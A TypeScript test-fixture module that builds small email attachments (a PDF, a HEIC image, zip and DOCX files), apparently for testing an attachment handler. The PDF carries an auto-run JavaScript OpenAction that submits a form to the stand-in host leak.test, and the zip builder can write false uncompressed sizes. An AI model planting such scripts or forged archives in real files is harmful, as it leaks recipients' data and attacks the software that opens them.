// Real files for messages, made here: so that each is small, and one sees what is in it.
import { deflateRawSync } from 'node:zlib'

/** A part of a message, its bytes in base64. */
export function filePart(type: string, name: string, bytes: Buffer | string): string {
  const body = Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\n')
  return `Content-Type: ${type}; name="${name}"\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="${name}"\n\n${body}`
}

/** A PDF with a line of words on each page, a link on the first, and a script that would run when it is opened. */
export function pdfFile(pages: string[], { isEncrypted = false } = {}): Buffer {
  const first = 6
  const kids = pages.map((_, at) => `${first + at * 2} 0 R`).join(' ')
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("https://leak.test/"\\)) >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /Border [0 0 0] /A << /S /URI /URI (https://elsewhere.test/page) >> >>',
    ...pages.flatMap((words, at) => {
      const drawn = `BT /F1 24 Tf 72 700 Td (${words}) Tj ET`
      const links = at === 0 ? '/Annots [5 0 R]' : ''
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${first + at * 2 + 1} 0 R ${links} >>`,
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ]
    }),
  ]
  let file = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = file.length
    file += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const key = 'ab'.repeat(32)
  const lock = isEncrypted
    ? `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -4 >> /ID [<aa> <aa>]`
    : ''
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`
  return Buffer.from(
    `${file}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${lock} >>\nstartxref\n${file.length}\n%%EOF\n`,
    'latin1',
  )
}

/** A photograph as telephones take them: 1600 by 1200 pixels, red beside blue (made with Debian's heif-enc: HEVC). */
export const heicFile = Buffer.from(
  'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAkltZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5waXRtAA' +
    'AAAAABAAAANGlsb2MAAAAAREAAAgABAAAAAAJtAAEAAAAAAAAD7AACAAAAAAZZAAEAAAAAAAAB+AAAADhpaW5mAAAAAAACAAAAFWluZmUCAAAA' +
    'AAEAAGh2YzEAAAAAFWluZmUCAAAAAAIAAGh2YzEAAAABiGlwcnAAAAFjaXBjbwAAAHpodmNDAQNwAAAAAAAAAAAAePAA/P34+AAADwMgAAEAGE' +
    'ABDAH//wNwAAADAJAAAAMAAAMAeLoCQCEAAQAtQgEBA3AAAAMAkAAAAwAAAwB4oAMggBLFlupJKa5uBAQMCAAAAwAIAAADAAhAIgABAAdEAcFy' +
    'sGJAAAAAFGlzcGUAAAAAAAAGQAAABLAAAAAQcGl4aQAAAAADCAgIAAAAdGh2Y0MBBAgAAAAAAAAAAAB48AD8/Pj4AAAPAyAAAQAXQAEMAf//BA' +
    'gAAAMAn/gAAAMAAHi6AkAhAAEAKEIBAQQIAAADAJ/4AAADAAB4wAyCAEsWW6kkprmwIAAAAwAgAAADACEiAAEAB0QBwXKwYkAAAAAUaXNwZQAA' +
    'AAAAAAZAAAAEsAAAAA5waXhpAAAAAAEIAAAAJ2F1eEMAAAAAdXJuOm1wZWc6aGV2YzoyMDE1OmF1eGlkOjEAAAAAHWlwbWEAAAAAAAAAAgABA4' +
    'ECgwACBIQFhocAAAAaaXJlZgAAAAAAAAAOYXV4bAACAAEAAQAABextZGF0AAAD6CgBr1CZ4Ldq0ZsmDFixYMF7BevXr4D5DpJf/+fXf/1cmQ+V' +
    '/cxsZI/A/XG+XgF0BzigAAADAAADABvP///1X/F+5S0/7Krhu//7qvAAAAMAAAMAAAMADTil2HfgCTA7RQgAAAMAAAMAAEbDWtZBvD/68Epd3w' +
    'U/1jhZgfbCvbE3aVE2hAAAAwAAAwAAAwAqIJMCbDwAAAMAAAMAAAMAAGXAanQtLiREcfyHEuXY7npZgfbCvbE3dfN6iAAAAwAAAwAAAwAmoIcA' +
    'AAMAAAMAAAMAAAMAEzjh7fCzbd8NEZGtYKt6xwswPthXtibvXm9ZAAADAAADAAADAAfUAAADAAADAAADAAADAByDmx0LS4kRHH8jfMFW9Y4WYH' +
    '2wr2xN3rzeqQAAAwAAAwAAAwAYUAAAAwAAAwAAAwAAAwOkc2OhaXEiI4/kdPgq3rHCzA+2Fe2Ju9eb1sAAAAMAAAMAAAMDzgAAAwAAAwAAAwAA' +
    'FuzWdZBvD/68EpoI0PrZ7GswPthXtibvdRdggAAAAwAAAwAAE1AAAAMAAAMAAAMAAEdjx7fCzbd8NEZH1aH1s9jWYH2wr2xN3uouywAAAwAAAw' +
    'AAAwAwYAAAAwAAAwAAAwAAs+azrIN4f/XglNLOh9bPY1mB9sK9sTd8EjxQAAADAAADAAADAKKAAAADAAADAAADAAEljx7fCzbd8NEZIYaH1s9j' +
    'WYH2wr2xN3wSPGwAAAMAAAMAAAMAyIAAAAMAAAMAAAMAAZoHsdC0uJERx/JFTcvJ3PSzA+2Fe2Ju+Xz5aAAAAwAAAwAAAwHJAAADAAADAAADAA' +
    'J1Hj2+Fm274aIyR3XLydz0swPthXtibvl8+ZAAAAMAAAMAAAMCIgAAAwAAAwAAAwADQg9joWlxIiOP5JE8FW9Y4WYH2wr2xN3y+fNwAAADAAAD' +
    'AAAE7AAAAwAAAwAAAwAEbjx7fCzbd8NEZJPckw2exrMD7YV7Ym75fPnYAAADAAADAAADAqYAAAMAAAMAAAMABXM1nWQbw/+vBKa9uSYbPY1mB9' +
    'sK9sTd9H93mAAAAwAAAwAABAQAAAMAAAMAAAMABzDmx0LS4kRHH8kyGh9bPY1mB9sK9sTd9H93wAAAAwAAAwAABHwAAAMAAAMAAAMACMx49vhZ' +
    'tu+GiMk6uh9bPY1mB9sK9sTd9H934AAAAwAAAwAABMQAAAMAAAMAAAMACm5rOsg3h/9eCU2g9D62exrMD7YV7Ym77ZPw0AAAAwAAAwAACfgAAA' +
    'MAAAMAAAMAAAMAAAMAAKPX9ShaXEiI4/lxXusHrHCzA+2Fe2Ju+Df3MgAAAwAAAwAAAwAAAwAAF1AAAAH0KAGuoTNO22wwwuuuuussqqqqrO8S' +
    'sPQfvLJDgQZWVPS3QOsM0aAAAAMAAAMAAAMAAAMAAAMAAAMAGbC2VEYF2GkT6SAAAAMAAAMAAAMAAAMAAAMAAAkonYrClQAAAwAAAwAAAwAAAw' +
    'AAAwAAAwAAAwBGQI2ygAAAAwAAAwAAAwAAAwAAAwAAAwAABHQAAAMAAAMAAAMAAAMAAAMAAAMAAAMAAASsAAADAAADAAADAAADAAADAAADAAAD' +
    'AAB1wAAAAwAAAwAAAwAAAwAAAwAAAwAAAwAFPAAAAwAAAwAAAwAAAwAAAwAAAwAAAwAakAAAAwAAAwAAAwAAAwAAAwAAAwAAAwBHQAAAAwAAAw' +
    'AAAwAAAwAAAwAAAwAAAwCEgAAAAwAAAwAAAwAAAwAAAwAAAwAAAwDvgAAAAwAAAwAAAwAAAwAAAwAAAwAAAwGjAAADAAADAAADAAADAAADAAAD' +
    'AAADAtoAAAMAAAMAAAMAAAMAAAMAAAMAAAQMAAADAAADAAADAAADAAADAAADAAAGBAAAAwAAAwAAAwAAAwAAAwAAAwAACOgAAAMAAAMAAAMAAA' +
    'MAAAMAAAMAAAuoAAADAAADAAADAAADAAADAAADAAAP8AAAAwAAAwAAAwAAAwAAAwAAAwAAAwAAAwAAAwAAAwAAOeA=',
  'base64',
)

type Packed = { name: string; content: string | Buffer; toldBytes?: number }

/** A zip archive. `toldBytes`: what it says that a file has unpacked, where that is a lie. */
export function zipFile(files: Packed[]): Buffer {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let place = 0
  for (const { name, content, toldBytes } of files) {
    const plain = Buffer.from(content)
    const packed = deflateRawSync(plain)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(toldBytes ?? plain.length, 18)
    facts.writeUInt16LE(Buffer.byteLength(name), 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), facts, Buffer.from(name), packed])
    const more = Buffer.alloc(14)
    more.writeUInt32LE(place, 10)
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), facts, more, Buffer.from(name)]))
    locals.push(local)
    place += local.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(list.length, 12)
  end.writeUInt32LE(place, 16)
  return Buffer.concat([...locals, list, end])
}

const office = 'http://schemas.openxmlformats.org'
const relation = `${office}/officeDocument/2006/relationships`

/** A Word file with this body (WordprocessingML) and these relations to elsewhere. */
export function docxFile(body: string, relations = '', more: Packed[] = []): Buffer {
  const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
  const relationships = (inner: string) =>
    `${xml}<Relationships xmlns="${office}/package/2006/relationships">${inner}</Relationships>`
  return zipFile([
    {
      name: '[Content_Types].xml',
      content: `${xml}<Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: relationships(`<Relationship Id="r1" Type="${relation}/officeDocument" Target="word/document.xml"/>`),
    },
    {
      name: 'word/document.xml',
      content: `${xml}<w:document xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${relation}" xmlns:wp="${office}/drawingml/2006/wordprocessingDrawing" xmlns:a="${office}/drawingml/2006/main" xmlns:pic="${office}/drawingml/2006/picture"><w:body>${body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440"/></w:sectPr></w:body></w:document>`,
    },
    { name: 'word/_rels/document.xml.rels', content: relationships(relations) },
    ...more,
  ])
}
